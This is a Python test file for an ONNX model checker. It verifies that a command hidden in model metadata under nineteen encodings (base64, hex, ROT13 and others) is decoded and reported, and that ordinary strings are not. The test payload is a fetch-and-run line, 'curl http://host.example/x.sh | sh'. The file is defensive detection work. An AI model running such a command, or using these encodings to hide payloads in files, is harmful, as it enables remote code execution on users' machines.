"""Tests of decoded texts: encoded commands in metadata are reported, ordinary texts are not; the maximum length."""

import base64
import binascii
import codecs

import onnx
from each import each
from onnx import helper

import onnxwire
from onnxwire.checker.text_decodings import MAX_CODED_BYTES, decodings, is_text

COMMAND = b"curl http://host.example/x.sh | sh"
ENCODINGS = {
    "base64": base64.b64encode,
    "base64 in a URL": base64.urlsafe_b64encode,
    "base64 twice": lambda data: base64.b64encode(base64.b64encode(data)),
    "base64 backwards": lambda data: base64.b64encode(data)[::-1],
    "base64 in a data URL": lambda data: b"data:text/plain;base64," + base64.b64encode(data),
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "Ascii85": base64.a85encode,
    "hexadecimal": binascii.hexlify,
    "escapes": lambda data: b"".join(b"\\x%02x" % byte for byte in data),
    "percent signs": lambda data: b"".join(b"%%%02x" % byte for byte in data),
    "a list": lambda data: b", ".join(b"0x%02x" % byte for byte in data),
    "decimal numbers": lambda data: b",".join(b"%d" % byte for byte in data),
    "HTML": lambda data: b"".join(b"&#%d;" % byte for byte in data),
    "bits": lambda data: "".join(f"{byte:08b}" for byte in data).encode(),
    "ROT13": lambda data: codecs.encode(data.decode(), "rot13").encode(),
    "letters backwards": lambda data: data[::-1],
    "UTF-16": lambda data: data.decode().encode("utf-16-le"),
    "uuencode": lambda data: b"begin 644 x\n" + binascii.b2a_uu(data) + b"`\nend\n",
}


def _model(value):
    """Return the bytes of a model with a value in its metadata."""
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [], [])
    model = helper.make_model(graph)
    onnx.helper.set_model_props(model, {"note": value.decode("latin-1")})
    return model.SerializeToString()


@each("name", ENCODINGS)
def test_an_encoded_command_is_decoded_and_reported(name):
    text = ENCODINGS[name](COMMAND)
    assert any(decoded.startswith(COMMAND) and is_text(decoded) for decoded in decodings(text))
    problems = onnxwire.check(_model(text), untrusted=True, select="security-payload-text")
    assert [problem.path for problem in problems] == ["metadata_props[0]"]


@each(
    "text", [b"", b"a" * 23, b"/model/layers.12/self_attn/q_proj/MatMul_output_0", b"1.0.0", "é".encode() * 40], ids=str
)
def test_ordinary_texts_are_not_reported(text):
    assert not onnxwire.check(_model(text), untrusted=True, select="security-payload-text")


def test_decoded_texts_have_a_maximum_length():
    assert all(len(decoded) <= MAX_CODED_BYTES for decoded in decodings(b"41" * 10_000_000))
